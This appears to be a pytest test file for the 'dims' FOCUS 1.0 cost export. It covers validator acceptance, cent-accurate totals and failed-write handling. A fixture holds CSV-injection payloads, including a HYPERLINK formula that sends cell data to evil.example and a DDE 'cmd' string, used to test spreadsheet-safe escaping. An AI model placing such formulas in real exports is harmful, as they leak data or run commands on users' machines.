"""`dims report --focus`: the month's costs as FOCUS 1.0 rows that the FinOps Foundation's own
validator accepts, and whose dollars are the report's to the cent.

The validator (PyPI `focus-validator` 1.0.0, the release that checks FOCUS 1.0) runs in its
own venv, `.venv/focus-validator`, made by tools/focus-validator.sh from the pins in
tools/focus-validator.txt (`make test` sets it up): it needs Python 3.11 and an older pyarrow
than dims's. It runs as a subprocess over the file dims wrote, in a temporary working folder
(it reads its currency list relative to the working folder), and every failed rule fails the
test. No rule is set aside. Its 1.0 rule set names five columns by their pre-1.0 IDs (see
`VALIDATOR_SPELLINGS`), so it is shown the same file with those columns under its names.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import fleet_math as fm
import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from cli_in_process import run
from repo import ROOT

from dims import _reports as reports

VALIDATOR = ROOT / ".venv" / "focus-validator"
#: The columns focus-validator 1.0.0's "1.0" rules read under other names: FOCUS 1.0 (the
#: specification's v1.0 tag, specification/columns/*.md "Column ID") names them ResourceId,
#: ProviderName, PublisherName and InvoiceIssuerName, and calls 0.5's ChargeType
#: ChargeCategory. The validator's rules ResourceID_*, Provider_*, Publisher_*,
#: InvoiceIssuer_* and SkuPriceId_Nullable (which reads ChargeType) would otherwise fail on
#: a correct file, and check nothing: under its names they check the file's values.
VALIDATOR_SPELLINGS = {
    "ResourceId": "ResourceID",
    "ProviderName": "Provider",
    "PublisherName": "Publisher",
    "InvoiceIssuerName": "InvoiceIssuer",
}
VALIDATOR_COPIES = {"ChargeType": "ChargeCategory"}
#: Rules the test sets aside, with why: none (keep it so; a rule set aside needs its reason).
SET_ASIDE: dict[str, str] = {}


def _validator_python() -> Path:
    python = VALIDATOR / "bin" / "python"
    if not python.exists():
        reason = f"{VALIDATOR} is missing: `make venv` (tools/focus-validator.sh) makes it"
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    return python


def _as_the_validator_reads(path: Path, work: Path) -> Path:
    """`path` copied into `work` with the columns under the validator's spellings."""
    target = work / f"focus{path.suffix}"
    if path.suffix == ".csv":
        with path.open(newline="", encoding="utf-8") as source:
            rows = list(csv.reader(source))
        header = rows[0]
        copied = [header.index(of) for of in VALIDATOR_COPIES.values()]
        with target.open("w", newline="", encoding="utf-8") as out:
            writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)
            writer.writerow([VALIDATOR_SPELLINGS.get(n, n) for n in header] + [*VALIDATOR_COPIES])
            for row in rows[1:]:
                writer.writerow(row + [row[at] for at in copied])
        return target
    table = pq.read_table(path)
    table = table.rename_columns([VALIDATOR_SPELLINGS.get(n, n) for n in table.column_names])
    for name, of in VALIDATOR_COPIES.items():
        table = table.append_column(name, table[of])
    pq.write_table(table, target)
    return target


def validate(path: Path, work: Path) -> dict[str, str]:
    """The FOCUS 1.0 rules focus-validator finds broken in `path`: rule -> its message."""
    python = _validator_python()
    work.mkdir()
    (codes,) = VALIDATOR.glob("lib/python*/site-packages/focus_validator/utils/currency_codes.csv")
    (work / "focus_validator" / "utils").mkdir(parents=True)
    shutil.copy(codes, work / "focus_validator" / "utils" / codes.name)
    data = _as_the_validator_reads(path, work)
    done = subprocess.run(
        [str(python), "-m", "focus_validator.main", "--data-file", data.name,
         "--validate-version", "1.0", "--output-type", "unittest",
         "--output-destination", "results.xml"],
        cwd=work, capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    results = ET.parse(work / "results.xml").getroot()
    cases = results.findall(".//testcase")
    assert len(cases) > 100, f"the validator ran {len(cases)} rules: {done.stdout[-2000:]}"
    broken = {}
    for case in cases:
        rule = case.get("name", "").split(" :: ")[0]
        for problem in [*case.findall("failure"), *case.findall("error")]:
            broken[rule] = problem.get("message") or problem.text or ""
    return {rule: why for rule, why in broken.items() if rule not in SET_ASIDE}


def test_the_rows_sum_to_the_report_to_the_cent(fleet, snap) -> None:
    export = reports.focus_table(snap)
    table = export.table.to_pandas()
    totals = reports.fleet_totals(snap)
    want = fm.fleet_cost(fleet.deployments, "cost_request_max_scale_usd_month")
    assert round(table["EffectiveCost"].sum(), 2) == totals["cost_request_max_scale_usd_month"]
    assert round(table["EffectiveCost"].sum(), 2) == round(want, 2)
    for column in ("BilledCost", "ListCost", "ContractedCost"):
        assert table[column].equals(table["EffectiveCost"]), column
    per = table.groupby("ResourceId")["EffectiveCost"].sum()
    costs = reports.cost_by_deployment(snap).set_index("deployment_id")
    priced = costs[costs["unpriced_reason"].isna()]
    assert sorted(per.index) == sorted(priced.index)
    for deployment, cost in priced["cost_request_max_scale_usd_month"].items():
        assert round(per[deployment], 2) == round(cost, 2), deployment
    parts = table[["x_CpuCost", "x_MemoryCost", "x_StorageCost"]].sum(axis=1)
    assert parts.to_numpy() == pytest.approx(table["EffectiveCost"].to_numpy(), rel=1e-12)
    unit = table["ListUnitPrice"] * table["PricingQuantity"]
    assert unit.to_numpy() == pytest.approx(table["ListCost"].to_numpy(), rel=1e-12)


def test_unpriced_deployments_are_left_out_and_counted_never_zero(fleet, snap) -> None:
    export = reports.focus_table(snap)
    states = {r["id"]: fm.status(r) for r in fleet.deployments}
    unpriced = {i for i, s in states.items() if s["unpriced_reason"] is not None}
    assert unpriced, "the fleet has unpriced deployments to leave out"
    shown = set(export.table.column("ResourceId").to_pylist())
    assert not shown & unpriced
    assert export.deployments == len(fleet.deployments) - len(unpriced)
    reasons: dict[str, int] = {}
    for deployment in unpriced:
        reason = states[deployment]["unpriced_reason"]
        reasons[reason] = reasons.get(reason, 0) + 1
    assert export.left_out == reasons
    assert export.summary()["deployments_left_out"] == len(unpriced)


def test_on_the_limits_basis_unbounded_deployments_are_left_out_too(snap) -> None:
    export = reports.focus_table(snap, basis="limit", scale="min")
    totals = reports.fleet_totals(snap)
    assert round(export.effective_cost, 2) == totals["cost_limit_min_scale_usd_month"]
    assert export.left_out["limits_unbounded"] == totals["deployments_unbounded"]
    assert sum(export.left_out.values()) == (
        totals["deployments_unbounded"] + totals["deployments_unpriced"]
    )
    assert set(export.table.column("x_CostBasis").to_pylist()) == {"limit"}
    assert set(export.table.column("x_CostScale").to_pylist()) == {"min"}


def test_each_row_is_a_deployments_component_with_its_labels_as_tags(fleet, snap) -> None:
    table = reports.focus_table(snap).table.to_pandas()
    assert not table.duplicated(["ResourceId", "x_Component"]).any()
    components = {"main", "queue", "orchestrator", "executor", "cache", "db", "sidecars_init"}
    assert set(table["x_Component"]) <= components
    by_id = {r["id"]: r for r in fleet.deployments}
    labelled = 0
    for row in table.drop_duplicates("ResourceId").itertuples():
        record = by_id[row.ResourceId]
        tags = json.loads(row.Tags)
        labels = fm.resource_spec(record).get("labels") or {}
        for key, value in labels.items():  # text as it is (other JSON types: as JSON text)
            if isinstance(value, str | type(None)):
                assert tags[key] == value, (row.ResourceId, key)
            else:
                assert json.loads(tags[key]) == value, (row.ResourceId, key)
        labelled += bool(labels)
        assert tags["dims/deployment_type"] == fleet.deployment_types[row.ResourceId]
        assert row.ResourceName == record["name"]
        assert row.ResourceType == "Deployment"
    assert labelled > 0
    db = table[table["x_Component"] == "db"]
    assert set(db["ServiceCategory"]) == {"Databases"}
    assert set(table.loc[table["x_Component"] != "db", "ServiceCategory"]) == {"Compute"}


def test_the_period_is_the_calendar_month_of_the_snapshot(snap, dataset_date) -> None:
    table = reports.focus_table(snap).table
    day = dataset_date  # 2025-06-02
    assert day.startswith("2025-06")
    for name in ("BillingPeriodStart", "ChargePeriodStart"):
        assert {v.isoformat() for v in table[name].to_pylist()} == {"2025-06-01T00:00:00+00:00"}
    for name in ("BillingPeriodEnd", "ChargePeriodEnd"):
        assert {v.isoformat() for v in table[name].to_pylist()} == {"2025-07-01T00:00:00+00:00"}
    assert set(table["PricingQuantity"].to_pylist()) == {reports.HOURS_PER_MONTH}


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_the_focus_validator_accepts_the_file(snap, tmp_path, suffix) -> None:
    path = reports.write_focus(reports.focus_table(snap), tmp_path / f"costs{suffix}")
    assert validate(path, tmp_path / "work") == {}


def test_the_validator_run_finds_a_broken_file(snap, tmp_path) -> None:
    """The harness is not vacuous: a currency FOCUS does not know and a null cost fail."""
    table = reports.focus_table(snap).table
    table = table.set_column(
        table.column_names.index("BillingCurrency"),
        "BillingCurrency",
        pa.array(["DOLLARS"] * table.num_rows),
    )
    costs = table["EffectiveCost"].to_pylist()
    table = table.set_column(
        table.column_names.index("EffectiveCost"),
        "EffectiveCost",
        pa.array([None, *costs[1:]], pa.float64()),
    )
    pq.write_table(table, tmp_path / "broken.parquet")
    broken = validate(tmp_path / "broken.parquet", tmp_path / "work")
    assert {"BillingCurrency_IsCurrencyCode", "EffectiveCost_NotNull"} <= set(broken)


def test_dims_report_focus_writes_the_file_and_says_what_it_left_out(
    dataset, tmp_path, capsys
) -> None:
    out = tmp_path / "data"
    shutil.copytree(dataset, out)
    target = tmp_path / "costs.parquet"
    code, printed, err = run(capsys, "report", "--out", str(out), "--focus", str(target))
    assert code == 0, err
    line = next(line for line in printed.splitlines() if line.startswith("FOCUS 1.0"))
    totals = reports.fleet_totals(reports.load_snapshot(out))
    assert f"${totals['cost_request_max_scale_usd_month']:,.2f}" in line
    assert f"{totals['deployments_unpriced']:,} deployments left out" in line
    written = pq.read_table(target)
    assert written.schema.metadata[b"focus_version"] == b"1.0"
    code, printed, err = run(
        capsys, "report", "--out", str(out), "--focus", str(tmp_path / "c.csv"),
        "--focus-basis", "limit-max", "--json",
    )  # fmt: skip
    assert code == 0, err
    focus = json.loads(printed)["focus"]
    assert focus["basis"] == "limit" and focus["scale"] == "max"
    assert focus["effective_cost_usd"] == totals["cost_limit_max_scale_usd_month"]
    assert focus["file"] == str((tmp_path / "c.csv").resolve())
    assert pacsv.read_csv(tmp_path / "c.csv").num_rows == focus["rows"]


@pytest.mark.parametrize("name", ["costs.json", "s3://bucket/costs.parquet", "costs"])
def test_a_focus_file_of_no_known_format_is_a_usage_error(dataset, tmp_path, capsys, name):
    code, printed, err = run(capsys, "report", "--out", str(dataset), "--focus", name)
    assert code == 2
    assert err.count("\n") == 1 and "--focus" in err and ".parquet or .csv" in err
    assert printed == ""


def test_a_failed_write_leaves_the_earlier_file_whole(snap, tmp_path, monkeypatch) -> None:
    target = tmp_path / "costs.parquet"
    export = reports.focus_table(snap)
    reports.write_focus(export, target)
    before = target.read_bytes()

    def half_then_fail(table: pa.Table, where: object, **kwargs: object) -> None:
        Path(str(where)).write_bytes(b"PAR1 half a file")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pq, "write_table", half_then_fail)
    with pytest.raises(OSError, match="No space"):
        reports.write_focus(reports.focus_table(snap, scale="min"), target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["costs.parquet"]


def test_a_focus_file_in_a_missing_folder_writes_nothing(dataset, tmp_path, capsys) -> None:
    out = tmp_path / "data"
    shutil.copytree(dataset, out)
    target = tmp_path / "missing" / "costs.parquet"
    code, _, err = run(capsys, "report", "--out", str(out), "--focus", str(target))
    assert code == 1
    assert err.count("\n") == 1 and "does not exist" in err
    assert not (out / "reports").exists()


# -- off the path: text that attacks a spreadsheet, records without optional objects ---------


#: Cells a spreadsheet would run (OWASP's CSV injection: =, +, -, @, a tab or CR first).
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/"&A1,"open")',
    "k8s_namespace": "+cmd|' /C calc'!A0",
    "deployment_type": "-2+3",
    "image_version": "@SUM(1+1)",
    "tenant_id": "\t=1+1",
    "label": "\r=1+1",
}


@pytest.fixture(scope="module")
def formulas(tmp_path_factory, fleet) -> Path:
    """Three deployments whose text starts as formulas do, among plain ones."""
    out = tmp_path_factory.mktemp("formulas")
    records = copy.deepcopy(fleet.deployments[:12])
    types = {r["id"]: fleet.deployment_types[r["id"]] for r in records}
    for record in records[:3]:
        record["name"] = FORMULAS["name"]
        record["source_config"]["listener_config"] = {"k8s_namespace": FORMULAS["k8s_namespace"]}
        record["tenant_id"] = FORMULAS["tenant_id"]
        fm.resource_spec(record)["labels"] = {"team": FORMULAS["label"]}
        types[record["id"]] = FORMULAS["deployment_type"]
    fm.export_fleet(records, types, out, "2025-06-02")
    return out


def test_a_csv_cell_that_starts_as_a_formula_is_prefixed_and_parquet_keeps_it(
    formulas, tmp_path, capsys
) -> None:
    for suffix in (".csv", ".parquet"):
        code, _, err = run(
            capsys, "report", "--out", str(formulas), "--focus", str(tmp_path / f"bill{suffix}")
        )
        assert code == 0, err
    with (tmp_path / "bill.csv").open(newline="", encoding="utf-8") as source:
        rows = list(csv.DictReader(source))
    parquet = pq.read_table(tmp_path / "bill.parquet").to_pylist()
    assert len(rows) == len(parquet)
    columns = {
        "ResourceName": "name",
        "x_Namespace": "k8s_namespace",
        "x_DeploymentType": "deployment_type",
        "x_WorkspaceId": "tenant_id",
        "SubAccountId": "tenant_id",
    }
    for column, field in columns.items():
        attacked = [r[column] for r in rows if r[column].lstrip("'") == FORMULAS[field]]
        assert attacked and set(attacked) == {"'" + FORMULAS[field]}, column
        assert FORMULAS[field] in {r[column] for r in parquet}, column  # as it is
    # no text cell of the CSV starts as a formula
    text = [f.name for f in pq.read_schema(tmp_path / "bill.parquet") if f.type == pa.string()]
    for row in rows:
        for column in text:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), column
    # the plain rows are untouched, in both
    plain = [r for r in rows if r["ResourceName"] != "'" + FORMULAS["name"]]
    assert plain and all(not r["ResourceName"].startswith("'") for r in plain)
    assert validate(tmp_path / "bill.csv", tmp_path / "work") == {}


def test_escape_csv_cell_is_owasps_rule() -> None:
    from dims._escape import csv_cell

    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{lead}1+1") == f"'{lead}1+1"
    for plain in ("", "team", " =1", "'=1", "a=1", "1-2", '{"dims/type": "-1"}'):
        assert csv_cell(plain) == plain


@pytest.mark.parametrize("missing", ["listener_config_null", "no_listener_config", "no_tenant_id"])
@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_a_deployment_without_an_optional_object_is_billed(
    fleet, tmp_path, capsys, missing, suffix
) -> None:
    records = copy.deepcopy(fleet.deployments[:6])
    types = {r["id"]: fleet.deployment_types[r["id"]] for r in records}
    odd = next(r for r in records if fm.status(r)["unpriced_reason"] is None)
    if missing == "listener_config_null":
        odd["source_config"]["listener_config"] = None
    elif missing == "no_listener_config":
        del odd["source_config"]["listener_config"]
    else:
        del odd["tenant_id"]
    fm.export_fleet(records, types, tmp_path / "data", "2025-06-02")
    target = tmp_path / f"bill{suffix}"
    code, _, err = run(capsys, "report", "--out", str(tmp_path / "data"), "--focus", str(target))
    assert code == 0 and err == "", err
    table = pq.read_table(target) if suffix == ".parquet" else pacsv.read_csv(target)
    mine = [r for r in table.to_pylist() if r["ResourceId"] == odd["id"]]
    assert mine and all(r["EffectiveCost"] > 0 for r in mine)
    column = "x_Namespace" if "listener" in missing else "x_WorkspaceId"
    assert {r[column] for r in mine} in ({None}, {""})  # null (CSV: empty), never "nan"
    tags = json.loads(mine[0]["Tags"])
    assert ("dims/k8s_namespace" if "listener" in missing else "dims/workspace") not in tags
    assert validate(target, tmp_path / "work") == {}


def test_a_focus_file_that_is_a_folder_is_one_line_naming_it(dataset, tmp_path, capsys) -> None:
    out = tmp_path / "data"
    shutil.copytree(dataset, out)
    target = tmp_path / "bill.csv"
    target.mkdir()
    code, printed, err = run(capsys, "report", "--out", str(out), "--focus", str(target))
    assert code == 1 and printed == ""
    assert err.count("\n") == 1 and str(target) in err and ".tmp" not in err
    assert list(target.iterdir()) == [] and not list(tmp_path.glob(".bill.csv*"))
    assert not (out / "reports").exists()


def test_a_focus_write_that_fails_names_the_users_file(snap, tmp_path, monkeypatch) -> None:
    def refuse(table: pa.Table, where: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied", str(where))

    monkeypatch.setattr(pq, "write_table", refuse)
    target = tmp_path / "costs.parquet"
    with pytest.raises(PermissionError) as raised:
        reports.write_focus(reports.focus_table(snap), target)
    assert raised.value.filename == str(target)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_a_fleet_nothing_of_which_is_priced_gets_an_empty_bill(tmp_path, capsys, suffix) -> None:
    """Every deployment unpriced (no resource_spec): the bill has no row, its columns and
    (Parquet) its FOCUS version and basis, and the report says what it left out; it was an
    IndexError traceback writing the Parquet file (issue 35's property tests found it)."""
    records = [{"id": f"6f1c2b8e-0000-4000-8000-00000000000{n}"} for n in (1, 2)]
    fm.export_fleet(records, {r["id"]: "prod" for r in records}, tmp_path / "data", "2025-06-02")
    target = tmp_path / f"bill{suffix}"
    code, printed, err = run(
        capsys, "report", "--out", str(tmp_path / "data"), "--focus", str(target), "--json"
    )
    assert code == 0 and err == "", err
    focus = json.loads(printed)["focus"]
    assert focus["rows"] == 0 and focus["deployments_left_out"] == 2
    table = pq.read_table(target) if suffix == ".parquet" else pacsv.read_csv(target)
    assert table.num_rows == 0 and "EffectiveCost" in table.column_names
    if suffix == ".parquet":
        assert table.schema.metadata[b"dims_focus_basis"] == b"request"
        assert table.schema.metadata[b"focus_version"] == b"1.0"


UNITS = (("cpu", "cores"), ("memory", "gib"))


@pytest.mark.parametrize("basis", ["request-min", "request-max", "limit-min", "limit-max"])
def test_the_quantities_follow_the_focus_basis_and_scale(dataset, fleet, tmp_path, capsys, basis):
    """`x_CpuCores` and `x_MemoryGiB` are the quantities the row's cost is made of: at the
    scale (and on the basis) `--focus-basis` names, the raw fleet's own figures per
    deployment, and × rate × hours each row's CPU and memory cost."""
    out = tmp_path / "data"
    shutil.copytree(dataset, out)
    target = tmp_path / "costs.parquet"
    code, _, err = run(
        capsys, "report", "--out", str(out), "--focus", str(target), "--focus-basis", basis
    )
    assert code == 0, err
    table = pq.read_table(target).to_pandas()
    kind, scale = basis.split("-")
    assert set(table["x_CostScale"]) == {scale} and set(table["x_CostBasis"]) == {kind}
    per = table.groupby("ResourceId")[["x_CpuCores", "x_MemoryGiB"]].sum()
    records = {r["id"]: r for r in fleet.deployments}
    for deployment, row in per.iterrows():
        want = fm.totals(records[deployment])
        cores, gib = (want[f"{r}_{kind}_{u}_{scale}_scale"] for r, u in UNITS)
        assert row["x_CpuCores"] == pytest.approx(cores, rel=1e-9), deployment
        assert row["x_MemoryGiB"] == pytest.approx(gib, rel=1e-9), deployment
    hours = table["x_HoursPerMonth"]
    cpu = table["x_CpuCores"] * table["x_CpuCoreHour"] * hours
    memory = table["x_MemoryGiB"] * table["x_MemoryGiBHour"] * hours
    assert cpu.to_numpy() == pytest.approx(table["x_CpuCost"].to_numpy(), rel=1e-9)
    assert memory.to_numpy() == pytest.approx(table["x_MemoryCost"].to_numpy(), rel=1e-9)
